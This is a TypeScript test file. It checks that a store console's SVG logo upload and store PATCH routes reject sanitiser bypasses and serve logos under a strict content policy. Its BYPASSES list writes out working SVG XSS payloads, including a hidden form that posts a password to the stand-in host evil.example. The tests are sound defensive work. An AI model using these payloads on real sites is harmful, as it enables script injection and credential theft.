import { CONSOLE_LOGO_PATH, CONSOLE_PATHS } from '@trackwell/contracts';
import { readStoreDefinition } from '@trackwell/db';
import { describe, expect, it } from 'vitest';
import { a, adminA, callAs, consoleRowCounts, t, useConsoleWorld } from '../support/console-world.ts';
import { expectError } from '../support/tracker-world.ts';

/**
 * A store logo is judged by parsing it as the browser does (XML with namespaces, entities decoded) and by
 * DOMPurify's SVG profile, not by patterns: script under another namespace prefix, a foreignObject holding a
 * form that posts elsewhere, CSS escapes, an entity-encoded `javascript:` in an animation, an animation that
 * writes an event handler — each is refused, through the logo upload and through a PATCH of the store. The
 * served file's policy forbids forms too.
 */
useConsoleWorld();

const SVG_NS = 'http://www.w3.org/2000/svg';
const KEPT = `<svg xmlns="${SVG_NS}" viewBox="0 0 80 20"><defs><linearGradient id="g"><stop offset="0" stop-color="#0a0"/></linearGradient></defs><rect width="80" height="20" style="fill:url(#g)"/></svg>`;

const BYPASSES: Array<[string, string]> = [
  [
    'a script under an SVG namespace prefix',
    `<svg xmlns="${SVG_NS}" xmlns:s="${SVG_NS}"><s:script>alert(1)</s:script></svg>`,
  ],
  [
    'a script under an XHTML namespace prefix',
    `<svg xmlns="${SVG_NS}" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>`,
  ],
  [
    'a prefixed foreignObject holding a form that posts elsewhere',
    `<svg xmlns="${SVG_NS}" xmlns:s="${SVG_NS}"><s:foreignObject width="80" height="20"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/collect" method="post"><input name="password" type="password"/></form></s:foreignObject></svg>`,
  ],
  [
    'a CSS escape hiding url( in a style element',
    `<svg xmlns="${SVG_NS}"><style>rect{fill:u\\72l(https://evil.example/x)}</style><rect width="1" height="1"/></svg>`,
  ],
  [
    'a CSS escape hiding url( in a style attribute',
    `<svg xmlns="${SVG_NS}"><rect width="1" height="1" style="fill:u\\72l(https://evil.example/x)"/></svg>`,
  ],
  [
    'an entity-encoded javascript: URL written by <animate>',
    `<svg xmlns="${SVG_NS}"><a href="#x"><animate attributeName="href" values="&#106;avascript:alert(1)"/><text y="10">x</text></a></svg>`,
  ],
  [
    'an entity-encoded javascript: link',
    `<svg xmlns="${SVG_NS}"><a href="&#106;avascript&#58;alert(1)"><text y="10">x</text></a></svg>`,
  ],
  [
    '<set> writing an onload handler',
    `<svg xmlns="${SVG_NS}"><set attributeName="onload" to="alert(1)"/></svg>`,
  ],
  [
    'an entity declaration',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "javascript:">]><svg xmlns="${SVG_NS}"/>`,
  ],
];

const storedLogo = async () => (await readStoreDefinition(t.app.db, a.tenant.id))!.logoSvg;
const upload = (svg: string) =>
  callAs(adminA, {
    method: 'PUT',
    url: CONSOLE_LOGO_PATH.replace(':code', a.tenant.code),
    payload: svg,
    headers: { 'content-type': 'image/svg+xml' },
  });
const patch = (svg: string) =>
  callAs(adminA, {
    method: 'PATCH',
    url: CONSOLE_PATHS.store.replace(':code', a.tenant.code),
    payload: { logoSvg: svg },
  });

describe('SVG logos judged by a parser and a sanitiser', () => {
  it('keeps a plain logo with a gradient, camel-case names and url(#id)', async () => {
    const res = await upload(KEPT);
    expect(res.statusCode, res.body).toBe(200);
    expect(await storedLogo()).toBe(KEPT);
  });

  it.each(BYPASSES)('refuses %s: 400 naming the logo, nothing saved', async (_what, svg) => {
    expect((await upload(KEPT)).statusCode).toBe(200);
    const before = await consoleRowCounts();
    expect(expectError(await upload(svg), 400).issues?.map((i) => i.path)).toEqual(['logo']);
    const patched = expectError(await patch(svg), 400);
    expect(patched.issues?.some((i) => i.path.startsWith('body.logoSvg'))).toBe(true);
    expect(await consoleRowCounts()).toEqual(before);
    expect(await storedLogo()).toBe(KEPT);
  });

  it('serves the logo with a policy that runs no script and lets no form post', async () => {
    const served = await t.app.inject({
      url: `/assets/${a.tenant.code}/logo.svg`,
      headers: { host: a.host },
    });
    expect(served.statusCode).toBe(200);
    const csp = String(served.headers['content-security-policy']);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("form-action 'none'");
  });
});
